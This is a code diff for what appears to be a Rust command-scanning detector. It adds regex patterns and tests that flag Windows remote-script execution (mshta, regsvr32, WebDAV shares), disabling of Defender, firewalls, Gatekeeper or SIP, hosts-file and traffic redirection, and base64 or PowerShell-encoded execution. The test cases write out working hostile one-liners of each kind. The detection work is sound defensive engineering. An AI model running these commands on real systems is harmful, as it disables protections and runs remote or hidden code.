@@ -394,6 +394,14 @@ static COMMAND_PATTERNS: LazyLock<Vec<(Technique, Regex, &'static str)>> = LazyL
             "remote content piped into an interpreter or downloaded and made executable",
         ),
         (
+            // Windows programs that run what a remote address serves: a share mapped and a
+            // script on it started (WebDAV "ClickFix"), `mshta`/`rundll32` given a URL or a UNC
+            // path, `regsvr32 /i:` with a URL.
+            Technique::DownloadExecute,
+            r"\bnet\s+use\b[^\n]*\\\\[^\n]*(&&|&|;)\s*(start\s+|call\s+|cmd\s+/c\s+)?[\x22']?([a-z]:\\|\\\\)[^\n]*\.(bat|cmd|exe|ps1|vbs|hta|js|scr|msi)\b|\bmshta(\.exe)?\s+[\x22']?(https?://|\\\\)|\brundll32(\.exe)?\s+[\x22']?\\\\|\bregsvr32\b[^\n]*/i:\s*[\x22']?https?://|\b(start|call|cmd\s+/c)\s+[\x22']?\\\\[\w.@-]+\\[^\n]*\.(bat|cmd|exe|hta|ps1|vbs|scr)\b",
+            "a script run from a remote share or address",
+        ),
+        (
             Technique::ReverseShell,
             r"/dev/(tcp|udp)/|\bnc(at)?\b[^|;\n]*\s-[a-z]*[ec]\b|\bncat\b.*--(exec|sh-exec)|\bsocat\b[^\n]*\bexec:|\b(ba|z)?sh\s+-i\b[^\n]*[<>]&|\bmkfifo\b[^\n]*\bnc\b|\bpty\.spawn\(|\bsocket\.socket\b[^\n]*\bdup2\b",
             "a shell connected to a socket",
@@ -407,6 +415,23 @@ static COMMAND_PATTERNS: LazyLock<Vec<(Technique, Regex, &'static str)>> = LazyL
             Technique::DefenceEvasion,
             r"\bhistory\s+-[cw]\b|\bunset\s+histfile\b|histfile=/dev/null|histsize=0|>\s*/var/log/|/dev/null\s*>\s*\S*(_history|/var/log/\S*)|\b(rm|shred|truncate)\b[^;|&\n]*(/var/log/|_history\b|\bwtmp\b|\bbtmp\b|\blastlog\b)|\bsystemctl\s+(stop|disable|mask)\s+(rsyslog|syslog|syslog-ng|auditd|journald|systemd-journald|apparmor|firewalld|ufw|falco|osqueryd?|clamav\S*|sysmon\S*|wazuh\S*|crowdstrike\S*|falcon\S*|sentinel\S*)\b|\bservice\s+(rsyslog|auditd|apparmor|ufw|firewalld)\s+stop\b|\bsetenforce\s+0\b|\biptables\s+-F\b|\bufw\s+disable\b|\bchattr\s+\+i\b|\btouch\s+-[a-z]*[trd]\b|\b(insmod|modprobe)\s+\S|\bauditctl\s+-[De]\b|\bwevtutil\s+cl\b|\bclear-eventlog\b|set-mppreference\s+-disable|\b(pkill|killall)\b[^\n]*\b(auditd|falcon|clamd|osqueryd|sysmon|wazuh|defender|sentinel)",
             "logs or history wiped, auditing or defences stopped, files hidden or backdated",
+        ),
+        (
+            // Security software switched off or told to look away (Defender, the firewall,
+            // Gatekeeper, SIP), a kernel driver installed as a service (the "bring your own
+            // vulnerable driver" way to kill protections), and the machine's name resolution
+            // or traffic rerouted (hosts file entries, NAT redirection, port proxies).
+            Technique::DefenceEvasion,
+            r"\badd-mppreference\b[^\n]*-exclusion|\bdisable(realtimemonitoring|antispyware|antivirus|behaviormonitoring|ioavprotection)\b|\bnetsh\s+(advfirewall|firewall)\s+set\b[^\n]*\b(state|opmode)\s+(off|disable)|\bsc(\.exe)?\s+(stop|delete|config)\s+(windefend|wdboot|wdfilter|wdnisdrv|wdnissvc|sense|mpssvc|securityhealthservice)\b|\bsc(\.exe)?\s+create\b[^\n]*\btype=\s*kernel\b|\bspctl\s+--master-disable\b|\bcsrutil\s+disable\b|>>?\s*/etc/hosts\b|\btee\s+(-a\s+)?/etc/hosts\b|\\drivers\\etc\\hosts\b|\biptables\b[^\n]*-j\s+(redirect|dnat)\b|\bnetsh\s+interface\s+portproxy\s+add\b",
+            "security software switched off or the machine's traffic redirected",
+        ),
+        (
+            // Code handed to an interpreter in encoded form: a base64 `data:` URL run by a
+            // JavaScript runtime, text decoded and piped into a shell, PowerShell's
+            // `-EncodedCommand`.
+            Technique::ObfuscatedExecution,
+            r"\b(deno|node|bun|tsx|ts-node)\b[^\n]*\bdata:[\w/+.-]*;base64,|\bbase64\s+(-d|--decode|-di)\b[^\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(xxd\s+-r|openssl\s+(enc\s+)?-d)\b[^\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(powershell|pwsh)(\.exe)?\b[^\n]*\s-(e|ec|enc|encodedcommand)\s+[a-z0-9+/=]{16,}",
+            "encoded code handed to an interpreter",
         ),
         (
             Technique::PrivilegeEscalation,
@@ -526,7 +551,7 @@ mod tests {
     fn every_built_in_pattern_compiles() {
         assert_eq!(SECRET_PATTERNS.len(), 11);
         assert_eq!(CONTROL_PATTERNS.len(), 11);
-        assert_eq!(COMMAND_PATTERNS.len(), 7);
+        assert_eq!(COMMAND_PATTERNS.len(), 10);
     }
 
     #[test]
@@ -631,6 +656,47 @@ mod tests {
         assert!(t("history -c").contains(&Technique::DefenceEvasion));
         assert!(t("echo '' > /var/log/auth.log").contains(&Technique::DefenceEvasion));
         assert!(t("systemctl stop auditd").contains(&Technique::DefenceEvasion));
+        for c in [
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+            "Add-MpPreference -ExclusionPath C:\\Users",
+            "netsh advfirewall set allprofiles state off",
+            "sc create drv type= kernel start= demand binPath= C:\\drv.sys",
+            "sudo spctl --master-disable",
+            "echo \"10.0.0.5 login.example.com\" >> /etc/hosts",
+            "iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination 127.0.0.1:8443",
+        ] {
+            assert!(t(c).contains(&Technique::DefenceEvasion), "{c}");
+        }
+        for c in [
+            "deno run --allow-net \"data:application/typescript;base64,Y29uc29sZQ==\"",
+            "echo aGVsbG8K | base64 -d | bash",
+            "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+        ] {
+            assert!(t(c).contains(&Technique::ObfuscatedExecution), "{c}");
+        }
+        assert!(t("echo aGVsbG8K | base64 -d > out.txt").is_empty());
+        for c in [
+            r"net use Z: \\files.example.net@443\DavWWWRoot\x\ && Z:\fix.bat",
+            r"mshta https://files.example.net/a.hta",
+            r"regsvr32 /s /n /u /i:https://files.example.net/x.sct scrobj.dll",
+            r"start \\files.example.net\share\setup.cmd",
+        ] {
+            assert!(t(c).contains(&Technique::DownloadExecute), "{c}");
+        }
+        for c in [
+            r"net use Z: \\fileserver\team /persistent:yes",
+            r"copy Z:\report.txt C:\reports\",
+        ] {
+            assert!(!t(c).contains(&Technique::DownloadExecute), "{c}");
+        }
+        for c in [
+            "cat /etc/hosts",
+            "sc query windefend",
+            "iptables -L -n",
+            "netsh advfirewall show allprofiles",
+        ] {
+            assert!(!t(c).contains(&Technique::DefenceEvasion), "{c}");
+        }
         assert!(t("chmod u+s /tmp/x").contains(&Technique::PrivilegeEscalation));
         assert!(t("echo 'u ALL=(ALL) NOPASSWD: ALL'").contains(&Technique::PrivilegeEscalation));
         assert!(
